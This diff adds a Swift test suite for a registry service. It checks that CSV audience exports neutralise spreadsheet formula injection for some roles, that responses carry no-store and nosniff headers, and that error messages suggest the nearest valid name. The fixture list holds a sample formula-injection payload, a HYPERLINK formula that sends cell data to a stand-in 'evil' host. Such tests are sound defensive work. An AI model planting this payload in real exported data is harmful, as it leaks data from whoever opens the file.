@@ -1,0 +1,110 @@
+import RegistryTestSupport
+import Testing
+
+extension EndToEnd {
+    @Suite("An export does not run in a spreadsheet, and no browser keeps or guesses an answer")
+    struct SpreadsheetTests {
+        private static let formulas = [
+            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+        ]
+
+        private func make() async throws -> RegistryApp {
+            let app = try await RegistryApp.make()
+            for (number, formula) in (Self.formulas + ["Telekom"]).enumerated() {
+                var device = RegistrationBody.device("phone-\(number)")
+                device["carrier"] = .string(formula)
+                device["timeZoneId"] = "America/New_York"
+                device["timeZoneOffset"] = -18_000
+                let body = RegistrationBody.make("phone-\(number)", device: device)
+                _ = try await app.put("phone-\(number)", body, by: .role(.client))
+            }
+            return app
+        }
+
+        private func export(
+            _ app: RegistryApp, by role: RegistryApp.Role, _ more: [String: JSON] = [:]
+        ) async throws -> HTTPResponse {
+            let body: [String: JSON] = [
+                "filter": [:], "format": "csv", "fields": ["carrier", "utcOffset", "location"],
+            ]
+            return try await app.send("POST", "/audience/export", .object(body.merging(more) { $1 }), by: .role(role))
+        }
+
+        @Test func cells_areNeutralised_forMarketing_andWhoeverAsks() async throws {
+            let app = try await make()
+            for answer in [
+                try await export(app, by: .marketing), try await export(app, by: .sender, ["spreadsheetSafe": true]),
+            ] {
+                for formula in Self.formulas {
+                    let cell = formula.replacing("\"", with: "\"\"")
+                    #expect(answer.text.contains("'" + cell), "\(formula)")
+                    #expect(!answer.text.contains("\r\n" + cell) && !answer.text.contains("\"" + cell), "\(formula)")
+                }
+                #expect(answer.text.contains("\r\nTelekom,-18000,52.52 13.4\r\n"), "true numbers are left alone")
+            }
+        }
+
+        @Test func cells_areAsTheyAre_forSenders_andWhoeverAsks() async throws {
+            let app = try await make()
+            for answer in [
+                try await export(app, by: .sender), try await export(app, by: .marketing, ["spreadsheetSafe": false]),
+            ] {
+                #expect(!answer.text.contains("'") && answer.text.contains("\r\n-2+3,"))
+            }
+            let lines = try await export(app, by: .marketing, ["format": "ndjson"])
+            #expect(!lines.text.contains("'"), "JSON has no cells")
+        }
+
+        /// A cursor of marketing is base64url, and may begin with a hyphen.
+        @Test func cursor_isTaken_withTheApostropheThatItGot() async throws {
+            let app = try await make()
+            let whole = try await export(app, by: .marketing, ["fields": ["id", "cursor"]]).text
+            let rows = whole.split(separator: "\r\n").dropFirst().map { $0.split(separator: ",") }
+            let ids = rows.map { String($0[0]) }
+            for (number, row) in rows.enumerated() {
+                let bare = row[1].hasPrefix("'") ? row[1].dropFirst() : row[1]
+                for cursor in [String(bare), "'" + bare] {
+                    let rest = try await export(
+                        app, by: .marketing, ["fields": ["id"], "after": .string(cursor)])
+                    let following = rest.text.split(separator: "\r\n").dropFirst().map(String.init)
+                    #expect(following == Array(ids.dropFirst(number + 1)))
+                }
+            }
+        }
+
+        @Test func answers_areNeitherKeptNorGuessed() async throws {
+            let app = try await make()
+            let file = try await export(app, by: .marketing)
+            #expect(file["Content-Disposition"] == "attachment; filename=\"\(app.id)-audience.csv\"")
+            let answers = [
+                file, try await app.get("phone-0"), try await app.put("phone-0"), try await app.delete("phone-0"),
+                try await app.get("nobody"), try await app.get("phone-1", by: .none),
+                try await app.send("GET", "/nothing"), try await app.send("PATCH", "/keys"),
+                try await app.registry.send("GET", "/v1/apps"), try await app.send("GET", "/changes"),
+            ]
+            for answer in answers {
+                #expect(answer["Cache-Control"] == "no-store", "\(answer.status) \(answer.text)")
+                #expect(answer["X-Content-Type-Options"] == "nosniff", "\(answer.status) \(answer.text)")
+            }
+        }
+    }
+
+    @Suite("Errors name the nearest name, or the choices")
+    struct HintTests {
+        @Test func unknownNames_areExplained() async throws {
+            let app = try await RegistryApp.make()
+            let answers: [(JSON, String)] = [
+                (["filter": ["carier": "x"]], "Did you mean carrier?"),
+                (["filter": ["carrier": ["equ": "x"]]], "Did you mean eq?"),
+                (["filter": ["zzzzzz": "x"]], "The names are: all, any, not, segment, provider"),
+                (["filtre": [:]], "Did you mean filter?"),
+            ]
+            for (body, hint) in answers {
+                let answer = try await app.send("POST", "/audience/count", body, by: .role(.marketing))
+                #expect(answer.status == 400 && answer.text.contains(hint), "\(answer.text)")
+            }
+            let query = try await app.send("GET", "/audience/count?localle=de", by: .role(.marketing))
+            #expect(query.text.contains("Did you mean locale?"), "\(query.text)")
+        }
+    }
+}
